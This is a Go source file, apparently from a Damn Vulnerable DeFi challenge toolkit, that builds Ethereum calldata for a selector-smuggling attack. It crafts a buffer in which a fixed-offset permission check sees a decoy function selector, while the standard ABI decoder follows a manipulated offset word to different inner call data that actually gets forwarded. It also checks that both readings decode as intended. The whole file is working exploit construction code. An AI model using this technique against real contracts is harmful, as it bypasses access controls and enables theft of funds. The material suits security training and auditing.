package payload

import (
	"bytes"
	"fmt"

	"github.com/ethereum/go-ethereum/common"
	"github.com/holiman/uint256"

	"github.com/mjkid221/damn-vulnerable-defi/common/errs"
)

// FixedView is what a reader taking a selector from a hard-coded offset sees.
type FixedView struct {
	Offset   int
	Selector [4]byte
}

// RedirectedView is what a standard ABI decoder sees when it follows the
// offset word to the dynamic bytes argument.
type RedirectedView struct {
	OffsetWordAt int
	Base         int
	DataStart    int
	Data         []byte
}

// Selector of the redirected call, or zero when it is shorter than 4 bytes.
func (v RedirectedView) Selector() [4]byte {
	var sel [4]byte
	if len(v.Data) >= 4 {
		copy(sel[:], v.Data[:4])
	}
	return sel
}

// Smuggled is a buffer together with its two independent interpretations.
type Smuggled struct {
	Buffer     []byte
	Layout     *Layout
	Fixed      FixedView
	Redirected RedirectedView
}

// ParseFixedView reads four bytes at offset.
func ParseFixedView(buf []byte, offset int) (FixedView, error) {
	if offset < 0 || offset+4 > len(buf) {
		return FixedView{}, errs.NewError(errs.ErrorTypeLayoutOverflow, fmt.Sprintf("selector at %d outside %d-byte buffer", offset, len(buf)))
	}
	v := FixedView{Offset: offset}
	copy(v.Selector[:], buf[offset:offset+4])
	return v, nil
}

// ParseRedirected decodes a dynamic bytes argument the way the ABI does:
// the word at offsetWordAt is an offset relative to base, pointing at a
// length word followed by the data.
func ParseRedirected(buf []byte, offsetWordAt, base int) (RedirectedView, error) {
	offset, err := readWord(buf, offsetWordAt)
	if err != nil {
		return RedirectedView{}, err
	}
	lengthAt := base + offset
	length, err := readWord(buf, lengthAt)
	if err != nil {
		return RedirectedView{}, err
	}
	start := lengthAt + WordSize
	if length > len(buf)-start {
		return RedirectedView{}, errs.NewError(errs.ErrorTypeLayoutOverflow, fmt.Sprintf("bytes of length %d at %d exceed the buffer", length, start))
	}
	return RedirectedView{
		OffsetWordAt: offsetWordAt,
		Base:         base,
		DataStart:    start,
		Data:         bytes.Clone(buf[start : start+length]),
	}, nil
}

func readWord(buf []byte, at int) (int, error) {
	if at < 0 || at+WordSize > len(buf) {
		return 0, errs.NewError(errs.ErrorTypeLayoutOverflow, fmt.Sprintf("word at %d outside %d-byte buffer", at, len(buf)))
	}
	v := new(uint256.Int).SetBytes(buf[at : at+WordSize])
	if !v.IsUint64() || v.Uint64() > uint64(len(buf)) {
		return 0, errs.NewError(errs.ErrorTypeLayoutOverflow, fmt.Sprintf("word at %d points outside the buffer", at))
	}
	return int(v.Uint64()), nil
}

// SelectorSmuggle describes an execute(address,bytes)-style call whose
// permission check reads the inner selector at a fixed offset.
type SelectorSmuggle struct {
	// OuterSignature is the entry point, e.g. "execute(address,bytes)".
	OuterSignature string
	Target         common.Address
	// Decoy is the selector the fixed-offset check is shown.
	Decoy [4]byte
	// Inner is the call data the decoder actually forwards.
	Inner []byte
}

// NewSelectorSmuggle builds
//
//	[outer selector][target][offset][empty word][decoy selector][padding][length][inner]
//
// where the offset skips the empty word and the decoy so the ABI decoder
// lands on the length word. The fixed view sits right after the empty word,
// which is where a standard encoding would have put the inner selector.
func NewSelectorSmuggle(s SelectorSmuggle) (*Smuggled, error) {
	b := NewLayoutBuilder().
		SelectorOf("selector", s.OuterSignature).
		Mark("args").
		Address("target", s.Target).
		OffsetTo("data.offset", "args", "data").
		Padding("empty", WordSize).
		Mark("decoy").
		Selector("decoy.selector", s.Decoy).
		Padding("decoy.pad", WordSize-4).
		Mark("data").
		BytesLength("data.length", len(s.Inner)).
		BytesData("data.bytes", s.Inner)

	buf, layout, err := b.Build()
	if err != nil {
		return nil, err
	}
	decoy, _ := layout.Field("decoy.selector")
	offsetWord, _ := layout.Field("data.offset")
	args := offsetWord.Offset - WordSize

	fixed, err := ParseFixedView(buf, decoy.Offset)
	if err != nil {
		return nil, err
	}
	redirected, err := ParseRedirected(buf, offsetWord.Offset, args)
	if err != nil {
		return nil, err
	}
	if fixed.Selector != s.Decoy || !bytes.Equal(redirected.Data, s.Inner) {
		return nil, errs.NewError(errs.ErrorTypeLayoutOverlap, "smuggled views do not decode to the intended calls")
	}
	return &Smuggled{Buffer: buf, Layout: layout, Fixed: fixed, Redirected: redirected}, nil
}
